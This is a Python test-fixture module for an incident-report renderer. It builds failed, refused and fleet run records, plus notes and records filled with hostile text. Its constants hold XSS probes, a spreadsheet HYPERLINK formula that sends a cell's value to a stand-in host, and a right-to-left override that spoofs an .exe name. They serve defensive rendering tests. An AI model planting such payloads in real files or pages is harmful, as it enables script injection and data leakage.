"""Run records and notes that are hard to render: hostile texts, many environments, runs that failed."""

from __future__ import annotations

import copy
import json
import re
from typing import TYPE_CHECKING, Any

from incident_lib import paths
from incident_lib.report import notes

if TYPE_CHECKING:
    from pathlib import Path

Contents = dict[str, Any]
EXAMPLE: Contents = json.loads((paths.EXAMPLE_RUN / "record.json").read_text("utf-8"))

# Scripts, what fetches, what ends the elements that texts stand in, and a style for all of the page.
HTML = (
    "<script>alert(1)</script><img src=x onerror=alert(2)><iframe src=//e.example></iframe><svg onload=alert(3)></svg>"
    "</td></table></details></section><style>*{display:none}</style>"
)
MARKDOWN = "`` ` ``` ~~~ **b** [l](javascript:alert(4)) ![p](http://e.example/p.png) | c |\n\n# h\n- [ ] i\n<!-- "
FORMULA = '=HYPERLINK("http://e.example/?"&A1,"x")'
# Marks that turn what follows from right to left, and an override; nothing ends any of them.
TURNED = "\u2067\u202b\u200f\u05d0\u05d1 \u202egnp.exe"

# The values that only this project writes: words of fixed sets, and times.
_OURS = frozenset(
    ("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "per", "because")
)
_MOMENT = re.compile(r"\d{4}-\d\d-\d\dT")
_ENDS = ("succeeded", "succeeded", "succeeded", "dry-run", "refused", "failed", "killed", "running")
_ERROR = {
    "what": "The step build failed.",
    "why": "PostgreSQL answered SQLSTATE 57014: a statement was cancelled.",
    "next": "Run it again: it continues with the next step.",
}


def hostile_text(letters: int = 100) -> str:
    """A text of all of that, with a word of so many letters in it."""
    return f"{FORMULA} {HTML} {MARKDOWN} {'W' * letters} {TURNED}"


def run_folder(folder: Path, contents: Contents, name: str) -> Path:
    """The folder of a run with this record."""
    made = folder / name
    made.mkdir()
    (made / "record.json").write_text(json.dumps(contents), "utf-8")
    return made


def failed(folder: Path, name: str = "prod") -> Path:
    """A run that failed in its first step, with a snapshot before and none after."""
    steps = [{**EXAMPLE["steps"][0], "outcome": "failed"}]
    return run_folder(folder, {**_stopped(EXAMPLE, "failed"), "environment": name, "steps": steps}, name)


def refused(folder: Path, name: str = "staging") -> Path:
    """A run that was refused after its snapshot before the fix."""
    return run_folder(folder, {**_stopped(EXAMPLE, "refused"), "environment": name}, name)


def run_without_snapshot(folder: Path, name: str = "unreachable") -> Path:
    """A run that failed before its first snapshot."""
    nothing = {"before": None, "after": None}
    known = ("schema_version", "started_by", "started_at", "heartbeat_at", "finished_at", "versions", "change")
    contents: Contents = {**dict.fromkeys(EXAMPLE), **{key: EXAMPLE[key] for key in known}}
    contents |= dict.fromkeys(("indexes", "counts", "snapshot_at", "example_threads"), nothing)
    contents |= {"environment": name, "status": "failed", "error": _ERROR, "steps": [], "probes": [], "notebooks": []}
    contents |= {"unread_logs": [], "recorded": True}
    return run_folder(folder, contents, name)


def fleet(folder: Path, size: int = 50) -> list[Path]:
    """Runs of many environments, which ended in every way."""
    return [_of_fleet(folder, number) for number in range(size)]


def hostile(folder: Path, text: str) -> list[Path]:
    """A run whose every free text is hostile, its folder's name too; and one that failed with such an error."""
    told = _hostile(EXAMPLE, text) | {"environment": text}
    stopped = _stopped(told, "failed") | {"environment": f"+{text}", "error": dict.fromkeys(_ERROR, text)}
    return [run_folder(folder, told, "<b>hostile"), run_folder(folder, stopped, "stopped")]


def hostile_notes(folder: Path, text: str) -> Path:
    """Notes that carry hostile text in every section, and in every place of it that Markdown knows."""
    line = " ".join(text.replace("<!--", "<!-").split())
    word = max(line.split(), key=len)
    table = f"| {word} | {word} |\n|---|---|\n| {TURNED} | {HTML} |"
    body = f"{line}\n\n{HTML}\n\n> {line}\n\n1. {line}\n\n### {line}\n\n```{word}\n{line}\n```\n\n{table}\n"
    sections = dict.fromkeys((*notes.WANTED, *notes.WELCOME), body)
    sections["Timeline"] = f"- 2025-10-13 08:18 UTC: {line} ({word})\n\n{body}"
    sections["Action items"] = f"- [ ] {line} (owner: {word}, due: 2026-01-31)\n- [x] {line}\n\n{body}"
    file = folder / "notes.md"
    file.write_text(f"# {line}\n\n" + "".join(f"## {title}\n\n{body}\n" for title, body in sections.items()), "utf-8")
    return file


def _hostile(thing: Any, text: str, key: str = "") -> Any:
    """The same, with hostile text wherever it is not ours; of the purposes, one."""
    if key in _OURS:
        return thing
    if isinstance(thing, dict):
        names = {name: text if name == "eval" else name for name in thing}
        return {names[name]: _hostile(value, text, name) for name, value in thing.items()}
    if isinstance(thing, list):
        return [_hostile(value, text) for value in thing]
    return text if isinstance(thing, str) and not _MOMENT.match(thing) else thing


def _of_fleet(folder: Path, number: int) -> Path:
    """One of many: each with another part of the example's blocked families."""
    name = f"{('eu-west', 'us-east', 'ap-south', 'sa_east_1_customer')[number % 4]}-{number:02d}"
    how = _ENDS[number % len(_ENDS)]
    contents = copy.deepcopy(EXAMPLE) if how == "succeeded" else _stopped(EXAMPLE, how)

    def share(count: int) -> int:
        return count * (number % 9) // 8

    for counts in filter(None, contents["counts"].values()):
        for key in ("blocked", "blocked_owners"):
            counts[key] = {purpose: share(count) for purpose, count in counts[key].items()}
        counts |= {key: share(counts[key]) for key in ("blocked_families", "affected_owners")}
    contents["blocked_by"] = [{**kind, "families": share(kind["families"])} for kind in contents["blocked_by"]]
    contents["blocked_since"] = {
        purpose: [[at, share(count)] for at, count in points] for purpose, points in contents["blocked_since"].items()
    }
    if recovery := contents.get("recovery"):
        recovery |= {key: share(recovery[key]) for key in ("blocked", "recovered")}
        recovery["over_time"] = [[at, share(count)] for at, count in recovery["over_time"]]
    return run_folder(folder, {**contents, "environment": name}, f"{name}-run")


def _stopped(contents: Contents, how: str) -> Contents:
    """The record of a run that did not get to its end, without a snapshot after."""
    status = {"status": "running", "heartbeat_at": "2025-01-01T00:00:00Z"} if how == "killed" else {"status": how}
    beating = {"heartbeat_at": "2999-01-01T00:00:00Z"} if how == "running" else {}
    never = {**dict.fromkeys(("incident_ended_at", "verification", "integrity", "retries", "recovery")), "probes": []}
    halves = ("indexes", "counts", "snapshot_at", "example_threads")
    before = {key: {**contents[key], "after": None} for key in halves}
    error = _ERROR if how in ("failed", "refused") else None
    steps = [] if how in ("dry-run", "refused") else contents["steps"][:1]
    return copy.deepcopy({**contents, **status, **beating, **never, **before, "error": error, "steps": steps})
